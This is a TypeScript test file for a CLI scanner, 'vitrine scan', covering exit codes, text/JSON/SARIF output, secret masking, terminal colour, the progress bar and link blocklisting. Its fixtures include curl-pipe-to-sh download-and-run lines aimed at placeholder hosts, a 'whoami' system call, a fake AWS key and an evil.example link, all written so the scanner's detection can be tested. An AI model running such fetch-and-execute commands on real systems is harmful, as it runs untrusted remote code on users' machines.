// `vitrine scan` as a person and a CI job run it: bin/vitrine on the project's Node for exit codes and formats;
// `main` in-process for what depends on a terminal (colour, progress bar), which a spawned test cannot have.

import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { test } from "node:test";
import { fileURLToPath } from "node:url";
import { main } from "../src/cli/main.ts";
import { notebookJson } from "../src/scan/test-notebook.ts";

const root = fileURLToPath(new URL("..", import.meta.url));
const bin = join(root, "bin", "vitrine");
const work = mkdtempSync(join(tmpdir(), "vitrine-scan-"));
const AWS = "AKIA2E0A8F3B4C5D6E7F";

writeFileSync(join(work, "clean.py"), "import pandas as pd\nprint(pd.__version__)\n");
writeFileSync(join(work, "low.ipynb"), notebookJson(["!pip install seaborn"]));
writeFileSync(join(work, "high.sh"), `curl -fsSL https://get.example.net | sh\nexport KEY=${AWS}\n`);
writeFileSync(join(work, "broken.ipynb"), '{"cells": [}');
mkdirSync(join(work, "tree", "nested", ".git"), { recursive: true });
writeFileSync(join(work, "tree", "nested", "a.R"), 'system("whoami")\n');
writeFileSync(join(work, "tree", "nested", ".git", "hook.sh"), "curl https://x.example | sh\n");
writeFileSync(join(work, "tree", "image.png"), "not scanned");

function run(...args: string[]) {
  const r = spawnSync(bin, ["scan", ...args], {
    cwd: work,
    encoding: "utf8",
    env: { ...process.env, PATH: "/usr/bin:/bin" },
  });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

test("exit codes follow --fail-on: 0 below it, 1 at or above it; high by default, never for a report only", () => {
  assert.equal(run("clean.py").code, 0);
  assert.equal(run("low.ipynb").code, 0, "a low finding fails only when asked to");
  assert.equal(run("low.ipynb", "--fail-on", "low").code, 1);
  assert.equal(run("low.ipynb", "--fail-on", "medium").code, 0);
  assert.equal(run("high.sh").code, 1);
  assert.equal(run("high.sh", "--fail-on", "high").code, 1);
  assert.equal(run("broken.ipynb").code, 1);
  assert.equal(run("high.sh", "--fail-on", "never").code, 0);
  const never = run("high.sh", "--fail-on", "never", "--format", "json");
  assert.ok((JSON.parse(never.stdout) as { files: { findings: unknown[] }[] }).files[0]!.findings.length > 0);
  assert.equal(
    run("nope.ipynb", "--fail-on", "never").code,
    2,
    "an unreadable path is an error whatever --fail-on says",
  );
});

test("plotting notebooks of the shared corpus pass by default: their script outputs are low findings", () => {
  const corpus = fileURLToPath(new URL("../../shared/corpus/notebooks/", import.meta.url));
  for (const name of ["plotly_express__gallery.ipynb", "bokeh-notebooks__lorenz.ipynb"]) {
    const path = join(corpus, name);
    const report = run(path, "--format", "json");
    assert.equal(report.code, 0, `${name}: ${report.stderr}`);
    const findings = (JSON.parse(report.stdout) as { files: { findings: { severity: string }[] }[] }).files[0]!
      .findings;
    assert.ok(findings.length > 0, `${name} has findings to report`);
    assert.ok(findings.every((finding) => finding.severity !== "high"));
    assert.equal(run(path, "--fail-on", "low").code, 1, `${name} fails when low findings are asked to fail`);
  }
});

test("exit code 2 for a bad option or a path that does not exist; other paths are still scanned", () => {
  const bad = run("clean.py", "--format", "xml");
  assert.equal(bad.code, 2);
  assert.match(bad.stderr, /--format must be text, json or sarif/);
  const critical = run("clean.py", "--fail-on", "critical");
  assert.equal(critical.code, 2);
  assert.match(
    critical.stderr,
    /^vitrine scan: --fail-on must be high, medium, low or never, not "critical" \[bad_option_value\]\n/,
  );
  assert.equal(run().code, 2);
  const missing = run("nope.ipynb", "high.sh", "--format", "json");
  assert.equal(missing.code, 2);
  assert.match(missing.stderr, /cannot read nope\.ipynb: no such file/);
  assert.equal((JSON.parse(missing.stdout) as { files: unknown[] }).files.length, 1);
});

test("text: grouped by file, no colour when not on a terminal, secrets masked", () => {
  const r = run("high.sh", "low.ipynb", "broken.ipynb");
  assert.equal(r.code, 1);
  assert.ok(!r.stdout.includes("\u001b["), "no escape codes in a pipe");
  assert.ok(!r.stdout.includes(AWS));
  assert.match(
    r.stdout,
    /^high\.sh\n {2}high {3}line 1:1 {2}downloads with curl and pipes it into sh {2}download-exec/m,
  );
  assert.match(r.stdout, /^broken\.ipynb\n {2}high {3}line 1:12 {2}the file could not be read/m);
  assert.match(r.stdout, /3 files scanned, 3 with findings: 3 high, 0 medium, 1 low\n$/);
});

test("folders: the known extensions, sorted, skipping version control folders", () => {
  const r = run("tree", "--format", "json");
  const files = (JSON.parse(r.stdout) as { files: { summary: { file: string } }[] }).files.map(
    (file) => file.summary.file,
  );
  assert.deepEqual(files, [join("tree", "nested", "a.R")]);
});

test("json and sarif carry the same findings, secrets masked in both, and -o writes the report to a file", () => {
  const jsonText = run("high.sh", "--format", "json").stdout;
  assert.ok(!jsonText.includes(AWS));
  assert.ok(jsonText.includes("AKIA…[20 chars masked]"));
  const json = JSON.parse(jsonText) as { files: { findings: { rule: string }[] }[] };
  const out = join(work, "report.sarif");
  assert.equal(run("high.sh", "--format", "sarif", "-o", out).code, 1);
  const sarif = JSON.parse(readFileSync(out, "utf8")) as { runs: { results: { ruleId: string }[] }[] };
  assert.deepEqual(
    sarif.runs[0]!.results.map((result) => result.ruleId),
    json.files[0]!.findings.map((finding) => finding.rule),
  );
  assert.ok(!readFileSync(out, "utf8").includes(AWS));
});

function captured(isTerminal: boolean) {
  const out: string[] = [];
  const err: string[] = [];
  return {
    out,
    err,
    io: {
      stdout: (text: string) => out.push(text),
      stderr: (text: string) => err.push(text),
      stdoutIsTerminal: isTerminal,
      stderrIsTerminal: isTerminal,
      env: {},
    },
  };
}

test("on a terminal: colour on standard output, NO_COLOR and --no-color turn it off", async () => {
  const terminal = captured(true);
  assert.equal(await main(["scan", join(work, "high.sh")], terminal.io), 1);
  assert.ok(terminal.out.join("").includes("\u001b[31mhigh"));
  const noColor = captured(true);
  await main(["scan", join(work, "high.sh")], { ...noColor.io, env: { NO_COLOR: "1" } });
  assert.ok(!noColor.out.join("").includes("\u001b["));
  const flag = captured(true);
  await main(["scan", "--no-color", join(work, "high.sh")], flag.io);
  assert.ok(!flag.out.join("").includes("\u001b["));
});

test("a progress bar on a terminal's standard error for large folders only, erased at the end", async () => {
  const many = join(work, "many");
  mkdirSync(many);
  for (let i = 0; i < 25; i++) writeFileSync(join(many, `n${String(i).padStart(2, "0")}.py`), "x = 1\n");
  const terminal = captured(true);
  assert.equal(await main(["scan", many], terminal.io), 0);
  const bar = terminal.err.join("");
  assert.ok(bar.startsWith(`\r\u001b[2K[${".".repeat(30)}] 0/25 `), JSON.stringify(bar.slice(0, 60)));
  assert.ok(bar.endsWith("\r\u001b[2K"));
  const pipe = captured(false);
  await main(["scan", many], pipe.io);
  assert.equal(pipe.err.join(""), "");
  const few = captured(true);
  await main(["scan", join(work, "high.sh")], few.io);
  assert.equal(few.err.join(""), "");
});

test("links are judged with the studio's own origin and blocklists", () => {
  writeFileSync(
    join(work, "links.md"),
    "[tool](https://evil.example/x) and ![s](https://studio.example/api/files/delete)\n",
  );
  const plain = JSON.parse(run("links.md", "--format", "json").stdout) as {
    files: { findings: { rule: string; message: string }[] }[];
  };
  assert.deepEqual(plain.files[0]!.findings, []);
  const add = spawnSync(bin, ["blocklist", "add", "evil.example", "--data-dir", join(work, "data")], {
    cwd: work,
    encoding: "utf8",
  });
  assert.equal(add.status, 0, add.stderr);
  const judged = run(
    "links.md",
    "--format",
    "json",
    "--data-dir",
    join(work, "data"),
    "--app-origin",
    "https://studio.example",
  );
  assert.equal(judged.code, 1);
  const messages = (
    JSON.parse(judged.stdout) as { files: { findings: { rule: string; message: string }[] }[] }
  ).files[0]!.findings.map((f) => `${f.rule} ${f.message}`);
  assert.equal(messages.length, 2);
  assert.match(messages[0]!, /^url-verdict the URL check blocks this link \[blocklisted\] \(list admin\)/);
  assert.match(messages[1]!, /^url-verdict the URL check blocks this image \[app_api\]/);
  assert.equal(run("links.md", "--app-origin", "ftp://x").code, 2);
});
